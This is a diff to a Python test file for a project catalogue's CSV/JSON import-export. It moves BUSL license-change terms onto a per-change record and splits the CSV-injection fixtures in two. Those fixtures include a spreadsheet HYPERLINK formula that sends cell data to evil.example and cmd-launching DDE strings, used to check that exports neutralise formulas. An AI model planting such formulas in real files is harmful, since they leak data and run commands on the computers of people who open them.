@@ -26,13 +26,11 @@ HEADER = "slug,name,summary,license_expression,category,languages,releases\n"
 
 @pytest.fixture
 def licenses(make_license):
-    apache = make_license("Apache-2.0")
+    make_license("Apache-2.0")
     make_license("MIT")
     make_license(
         "BUSL-1.1",
         family=Family.SOURCE_AVAILABLE,
-        change_license=apache,
-        change_period_months=36,
         change_cap_months=48,
     )
 
@@ -49,9 +47,6 @@ def catalogue(licenses, make_project, make_release, make_category, make_language
         languages=[python],
         description="Fast *store*; with | pipes and ; semicolons.",
         repository_url="https://github.com/getsentry/snuba",
-        licensor="Functional Software, Inc.",
-        licensed_work="Sentry",
-        additional_use_grant="Any use except a monitoring service.",
         featured=True,
         position=3,
     )
@@ -67,7 +62,14 @@ def catalogue(licenses, make_project, make_release, make_category, make_language
         project=snuba, license_expression="BSD-3-Clause", note="a; b | c"
     )
     LicenseChange.objects.create(
-        project=snuba, effective_on=D(2019, 11, 6), license_expression="BUSL-1.1"
+        project=snuba,
+        effective_on=D(2019, 11, 6),
+        license_expression="BUSL-1.1",
+        licensor="Functional Software, Inc.",
+        licensed_work="Sentry",
+        additional_use_grant="Any use except a monitoring service.",
+        change_license="Apache-2.0",
+        change_after_months=36,
     )
     make_project(
         "Relay",
@@ -86,8 +88,9 @@ def run(content, fmt="csv", **options):
 
 def test_csv_import_creates_projects_with_languages_and_releases(licenses, db):
     report = run(
-        HEADER + "snuba,Snuba,A store.,busl-1.1,,python;rust,"
-        "23.11.0|2023-11-15|BUSL-1.1\n"
+        HEADER.replace("\n", ",change_license,change_after_months\n")
+        + "snuba,Snuba,A store.,busl-1.1,,python;rust,"
+        "23.11.0|2023-11-15|BUSL-1.1,mpl-2.0,36\n"
     )
 
     assert report.ok and (report.created, report.updated) == (1, 0)
@@ -96,7 +99,8 @@ def test_csv_import_creates_projects_with_languages_and_releases(licenses, db):
     assert [lic.spdx_id for lic in snuba.licenses.all()] == ["BUSL-1.1"]
     assert sorted(lang.slug for lang in snuba.languages.all()) == ["python", "rust"]
     release = snuba.releases.get()
-    assert release.converts_on == D(2026, 11, 15)
+    assert (release.converts_on, release.converts_to) == (D(2026, 11, 15), "MPL-2.0")
+    assert snuba.license_changes.get().change_license == "MPL-2.0"
     assert snuba.state == State.DRAFT  # imports start as drafts unless told
 
 
@@ -201,18 +205,26 @@ def test_export_then_import_round_trips_with_nothing_lost(catalogue, fmt, export
 
 # Cells a spreadsheet runs as formulas (OWASP, "CSV Injection"), and text that
 # only looks neutralised already.
-FORMULAS = {
+PROJECT_FORMULAS = {
     "name": '=HYPERLINK("https://evil.example/?"&A1,"Snuba")',
     "summary": "+cmd|' /C calc'!A0",
     "description": "- a Markdown list\n- of two items",
+}
+TERMS_FORMULAS = {
     "licensor": "@SUM(1+1)*cmd|' /C calc'!A0",
     "licensed_work": "-2+3",
     "additional_use_grant": "'=already quoted",
 }
+FORMULAS = {**PROJECT_FORMULAS, **TERMS_FORMULAS}
+
+
+def write_formulas():
+    Project.objects.filter(slug="snuba").update(**PROJECT_FORMULAS)
+    LicenseChange.objects.filter(license_expression="BUSL-1.1").update(**TERMS_FORMULAS)
 
 
 def test_csv_export_writes_formulas_as_text(catalogue):
-    Project.objects.filter(slug="snuba").update(**FORMULAS)
+    write_formulas()
     LicenseChange.objects.filter(note="a; b | c").update(note="=1+1")
     Release.objects.filter(version="23.11.0").update(version="-1")
     rows = catalogue_rows()
@@ -257,7 +269,7 @@ def test_a_neutralised_cell_reads_back_as_it_was(cell, written):
 
 @pytest.mark.parametrize("fmt", ["csv", "json"])
 def test_formula_cells_round_trip_with_nothing_lost(catalogue, fmt):
-    Project.objects.filter(slug="snuba").update(**FORMULAS)
+    write_formulas()
     Release.objects.filter(version="23.11.0").update(version="-1")
     before = catalogue_rows()
     text = export_csv(before) if fmt == "csv" else export_json(before)
